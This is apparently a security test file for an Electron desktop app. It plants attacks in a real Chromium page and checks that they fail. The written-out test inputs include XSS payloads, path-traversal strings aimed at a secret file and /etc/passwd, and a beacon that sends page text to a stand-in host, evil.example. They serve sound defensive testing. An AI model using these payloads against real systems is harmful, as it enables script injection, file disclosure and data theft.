/**
 * Each attack is planted in a page that is already running inside the app, in a real Chromium under the shell's own
 * rules, and is seen to come to nothing. Where the rules are taken away, the same attack is seen to succeed: a test
 * that could not fail would prove nothing.
 */

import { mkdirSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { expect, it } from "vitest";
import { PAGE, respond } from "../../electron/protocol.ts";
import { isFrom } from "../../electron/security.ts";
import { serveHttp } from "../../host/transports/http.ts";
import { channelOf, type WindowCall, windowCalls } from "../../host/window.ts";
import type { Wire } from "../../host/wire.ts";
import { STAND_IN } from "../electron-double/window.ts";
import { hostCall, inChromium, shellTests } from "./launch.ts";

const { open, pageFolder, newFolder } = shellTests();

/** A moment in which a page could have gone astray. */
const settle = (page: Page) => page.waitForTimeout(300);

inChromium("a page cannot leave", () => {
  it("by a link, a form's script or a redirect", async () => {
    const desk = await open({
      pages: pageFolder('<a id="link" href="https://evil.example/">稿件来源</a>'),
    });
    await desk.page.click("#link");
    await settle(desk.page);
    await desk.page.evaluate('location.href = "https://evil.example/2"');
    await settle(desk.page);
    await desk.page.evaluate('location.assign("file:///etc/passwd")').catch(() => {});
    await settle(desk.page);
    expect(desk.page.url()).toBe(`${STAND_IN}/index.html`);
    expect(desk.reached).toEqual([]);
  });

  it("to another page of its own scheme, or to a frame outside", async () => {
    const pages = pageFolder(
      '<a id="link" href="other.html">另一页</a><iframe src="https://evil.example/f"></iframe>',
    );
    writeFileSync(join(pages, "other.html"), "<title>other</title>");
    const desk = await open({ pages });
    await desk.page.click("#link");
    await settle(desk.page);
    expect(desk.page.url()).toBe(`${STAND_IN}/index.html`);
    expect(desk.reached).toEqual([]);
  });

  it("(without the rules it would)", async () => {
    const desk = await open({ pages: pageFolder('<a id="link" href="https://evil.example/">稿件来源</a>') });
    desk.window.webContents.removeAllListeners("will-navigate");
    desk.window.webContents.removeAllListeners("will-frame-navigate");
    desk.session.webRequest.onBeforeRequest({ urls: [] }, () => {});
    await desk.page.click("#link");
    await settle(desk.page);
    expect(desk.page.url()).toBe("https://evil.example/");
    expect(desk.reached).toEqual(["https://evil.example/"]);
  });
});

inChromium("a page gets no other window", () => {
  it("by window.open, a link to a new one, or a middle click", async () => {
    const desk = await open({
      pages: pageFolder('<a id="link" target="_blank" rel="opener" href="https://evil.example/b">新窗口</a>'),
    });
    await desk.page.evaluate('void window.open("https://evil.example/a")');
    await desk.page.click("#link");
    await desk.page.click("#link", { button: "middle" });
    await expect.poll(() => desk.window.webContents.refusedWindows.length).toBe(3);
    await expect.poll(() => desk.page.context().pages().length).toBe(1);
    expect(desk.reached).toEqual([]);
  });

  it("by a webview", async () => {
    const desk = await open();
    let attached = true;
    desk.window.webContents.emit("will-attach-webview", { preventDefault: () => (attached = false) });
    expect(attached).toBe(false);
    expect(desk.window.options.webPreferences).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      webviewTag: false,
      webSecurity: true,
    });
    expect(desk.app.sandboxed).toBe(true);
  });
});

inChromium("only what was built is run", () => {
  const paste = `
    <p>今日本报讯</p>
    <script>window.ran = "script"</script>
    <img src="nothing.png" onerror="window.ran = 'handler'">
    <a id="js" href="javascript:void (window.ran = 'link')">更多</a>
    <svg><script>window.ran = "svg"</script></svg>
    <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
    <object data="data:text/html,<script>parent.ran='object'</script>"></object>`;

  /** Worse than any paste: the markup goes into the page as it is. */
  async function plant(page: Page): Promise<unknown> {
    await page.evaluate((html) => {
      const { document } = globalThis as unknown as {
        document: { body: { insertAdjacentHTML(a: string, b: string): void } };
      };
      document.body.insertAdjacentHTML("beforeend", html);
    }, paste);
    await page.click("#js");
    await settle(page);
    return page.evaluate("window.ran");
  }

  it("and no script in pasted HTML, handler, javascript: link or frame", async () => {
    const desk = await open();
    expect(await plant(desk.page)).toBeUndefined();
  });

  it("(without the policy it would be)", async () => {
    const desk = await open();
    // The same page outside the shell, without its headers.
    const bare = await desk.page.context().browser()?.newPage();
    expect(await plant(bare as Page)).toBeDefined();
    await bare?.close();
  });

  it("and no script from outside, no eval, no style of a stranger, nothing told to a stranger", async () => {
    const desk = await open();
    await desk.page.evaluate(`{
      const script = document.createElement("script");
      script.src = "https://evil.example/x.js";
      document.head.append(script);
      const style = document.createElement("style");
      style.textContent = "body { background: url(https://evil.example/beacon) }";
      document.head.append(style);
      const image = new Image();
      image.src = "https://evil.example/pixel?text=" + encodeURIComponent(document.body.textContent);
    }`);
    expect(
      await desk.page.evaluate(`fetch("https://evil.example/").then(() => "sent", () => "refused")`),
    ).toBe("refused");
    // Asked by a script of the page's own: Playwright's evaluate is not bound by the page's policy.
    const evil = await open({
      pages: pageFolder("", `try { window.ran = eval("1") } catch (e) { window.ran = e.name }`),
    });
    expect(await evil.page.evaluate("window.ran")).toBe("EvalError");
    await settle(desk.page);
    expect(desk.reached).toEqual([]);
  });

  it("but WebAssembly is: HarfBuzz needs it", async () => {
    const script = `WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0)).then(() => (window.ran = "yes"), (e) => (window.ran = String(e)))`;
    const desk = await open({ pages: pageFolder("", script) });
    await expect.poll(() => desk.page.evaluate("window.ran")).toBe("yes");
  });
});

inChromium("the app's scheme serves its folder and nothing else", () => {
  const secretOf = (pages: string) => writeFileSync(join(pages, "..", "secret.txt"), "secret");
  const ways = [
    "/../secret.txt",
    "/%2e%2e/secret.txt",
    "/assets/..%2f..%2fsecret.txt",
    "/assets/..%5c..%5csecret.txt",
    "/%00/../secret.txt",
    "/.hidden.html",
    "//etc/passwd",
    "/assets/",
    "/page.db",
  ];

  it.each(ways)("not %s", async (way) => {
    const pages = pageFolder();
    mkdirSync(join(pages, "assets"));
    writeFileSync(join(pages, ".hidden.html"), "hidden");
    writeFileSync(join(pages, "page.db"), "data");
    secretOf(pages);
    const response = await respond(pages, { url: `app://dayang${way}`, method: "GET" });
    expect(response.status).toBe(404);
    expect(await response.text()).toBe("");
  });

  it("not under another name, nor by another method", async () => {
    const pages = pageFolder();
    expect((await respond(pages, { url: "app://elsewhere/index.html", method: "GET" })).status).toBe(404);
    expect((await respond(pages, { url: PAGE, method: "POST" })).status).toBe(405);
    const page = await respond(pages, { url: PAGE, method: "GET" });
    expect(page.status).toBe(200);
    expect(page.headers.get("Content-Security-Policy")).toContain("default-src 'none'");
    expect(page.headers.get("Content-Security-Policy")).not.toContain("'unsafe-inline'");
  });

  it("and a picture's path with .. in it is no picture", async () => {
    const pages = pageFolder();
    secretOf(pages);
    const desk = await open({ pages });
    const loaded = (src: string) =>
      desk.page.evaluate(`fetch(${JSON.stringify(src)}).then((response) => response.status)`);
    expect(await loaded("/%2e%2e/secret.txt")).toBe(404);
    expect(await loaded("assets/..%2f..%2fsecret.txt")).toBe(404);
    const answer = await hostCall(desk.page, "pictures.get", { edition: "x", digest: "../../secret.txt" });
    expect(answer).toMatchObject({ fault: expect.stringContaining("digest") });
  });
});

inChromium("the way into the main process", () => {
  it("is closed to any other page, frame or window", async () => {
    const desk = await open();
    const own = { url: PAGE, parent: null };
    const { webContents } = desk.window;
    const strangers = [
      ["another site's page", webContents, { url: "https://evil.example/", parent: null }],
      ["a frame of the desk's own page", webContents, { url: PAGE, parent: own }],
      ["a look-alike", webContents, { url: "app://dayang.evil/index.html", parent: null }],
      ["another scheme", webContents, { url: "http://dayang/index.html", parent: null }],
      ["a page without an address", webContents, { url: "", parent: null }],
      ["another window", { ...webContents, id: webContents.id + 1000 }, own],
    ] as const;
    for (const [who, sender, frame] of strangers) {
      for (const call of Object.keys(windowCalls) as WindowCall[]) {
        const refused = desk.invoke(sender, frame, channelOf(call), {});
        await expect(refused, `${who}: ${call}`).rejects.toThrow("refused: not the desk's own page");
      }
    }
    expect(isFrom({ sender: webContents, senderFrame: null }, webContents)).toBe(false);
    expect(desk.asked).toEqual([]);
    expect(desk.children).toEqual([]);
  });

  it("is closed to a frame inside the page, even with the preload's own tools", async () => {
    const desk = await open({ pages: pageFolder('<iframe src="about:blank"></iframe>'), raw: true });
    const frame = desk.page.frames().find((one) => one.parentFrame());
    const said = await frame?.evaluate(
      `rawIpc.invoke("window:choose-file", { kind: "pdf" }).then(() => "let in", (error) => error.message)`,
    );
    expect(said).toContain("refused: not the desk's own page");
    expect(await frame?.evaluate("typeof dayang")).toBe("undefined");
  });

  it("has no channel but the agreed ones, and takes nothing out of shape", async () => {
    const desk = await open({ raw: true });
    const say = (channel: string, ...args: unknown[]) =>
      desk.page.evaluate(
        ([to, ...given]) =>
          (globalThis as unknown as { rawIpc: { invoke(...all: unknown[]): Promise<unknown> } }).rawIpc
            .invoke(to, ...given)
            .then(
              () => "let in",
              (error: Error) => error.message,
            ),
        [channel, ...args] as const,
      );
    expect(await say("shell.openExternal", "https://evil.example/")).toContain("No handler registered");
    expect(await say("window:choose-file", { kind: "anything" })).toContain("asked wrongly");
    expect(await say("window:choose-file", { kind: "pdf" }, { extra: true })).toContain("asked wrongly");
    expect(await say("window:set-menu", { locale: "zh", menus: [{ id: 1 }] })).toContain("asked wrongly");
    expect(await say("window:show-in-folder", { path: "/etc/passwd" })).toContain("nobody has chosen");
    expect(desk.shown).toEqual([]);
  });

  it("shows the page a frozen object, and nothing of Electron", async () => {
    const desk = await open();
    expect(
      await desk.page.evaluate(`({
        names: Object.keys(dayang).sort(),
        frozen: Object.isFrozen(dayang) && Object.isFrozen(dayang.host),
        others: [typeof require, typeof process, typeof module, typeof rawIpc],
      })`),
    ).toEqual({
      names: [
        "chooseFile",
        "chooseSavePath",
        "host",
        "onClosing",
        "onCommand",
        "onOpenPath",
        "pathOf",
        "ready",
        "setMenu",
        "showInFolder",
      ],
      frozen: true,
      others: ["undefined", "undefined", "undefined", "undefined"],
    });
  });

  it("asks the host nothing outside its contract", async () => {
    const desk = await open();
    expect(await hostCall(desk.page, "process.exit", {})).toEqual({ fault: 'no call "process.exit"' });
    const proto = await open();
    expect(await hostCall(proto.page, "__proto__", {})).toEqual({ fault: 'no call "__proto__"' });
  });
});

inChromium("no permission is given", () => {
  const ask = `Promise.all([
    new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve("granted"), (e) => resolve(e.code === 1 ? "denied" : "granted"), { timeout: 500 })),
    Notification.requestPermission(),
    navigator.permissions.query({ name: "midi" }).then(({ state }) => state === "granted" ? "granted" : "denied"),
  ])`;

  it("whatever a page asks for", async () => {
    const desk = await open();
    expect(await desk.page.evaluate(ask)).toEqual(["denied", "denied", "denied"]);
    expect(desk.session.device?.({})).toBe(false);
  });

  it("(without the rules it would be: of these, only a place is refused by the page's own headers too)", async () => {
    const desk = await open();
    desk.session.setPermissionRequestHandler(null);
    desk.session.setPermissionCheckHandler(null);
    await desk.grant();
    expect(await desk.page.evaluate(ask)).toEqual(["denied", "granted", "granted"]);
  });

  it("nor a download begun", async () => {
    const desk = await open();
    let begun = true;
    desk.session.emit("will-download", { preventDefault: () => (begun = false) });
    expect(begun).toBe(false);
  });
});

inChromium("the browser's way in, on loopback", () => {
  const calls: string[] = [];
  const wire: Wire = {
    async request(name) {
      calls.push(name);
      return {};
    },
    subscribe: () => () => {},
    close: async () => {},
  };

  it("is closed to a page of another origin, with the token or without", async () => {
    const pages = newFolder("pages");
    writeFileSync(join(pages, "index.html"), "<!doctype html><title>大样</title>");
    const server = await serveHttp(wire, { pages });
    const other = createServer((_request, response) => {
      response.writeHead(200, { "Content-Type": "text/html" });
      response.end("<!doctype html><title>other</title>");
    });
    await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
    const desk = await open();
    const page = (await desk.page.context().browser()?.newPage()) as Page;
    const ask = (token: string, type: string) =>
      page.evaluate(
        ([origin, key, media]) =>
          fetch(`${origin}/call/editions.recent`, {
            method: "POST",
            headers: { ...(key ? { Authorization: `Bearer ${key}` } : {}), "Content-Type": media as string },
            body: "x",
          }).then(
            (response) => response.status,
            (error: Error) => error.name,
          ),
        [server.origin, token, type] as const,
      );
    await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
    expect(await ask(server.token, "application/x-dayang")).toBe("TypeError");
    expect(await ask("", "application/x-dayang")).toBe("TypeError");
    // What a form could send goes out, and is refused there: the answer is not to be read.
    expect(await ask("", "text/plain")).toBe("TypeError");
    expect(calls).toEqual([]);

    // The app's own page, without its token.
    await page.goto(`${server.origin}/`);
    expect(await ask("", "application/x-dayang")).toBe(401);
    expect(await ask("x".repeat(server.token.length), "application/x-dayang")).toBe(401);
    expect(calls).toEqual([]);
    // And with it: the door is one that opens.
    expect(await ask(server.token, "application/x-dayang")).toBe(400);
    await page.close();
    other.close();
    await server.close();
  });
});
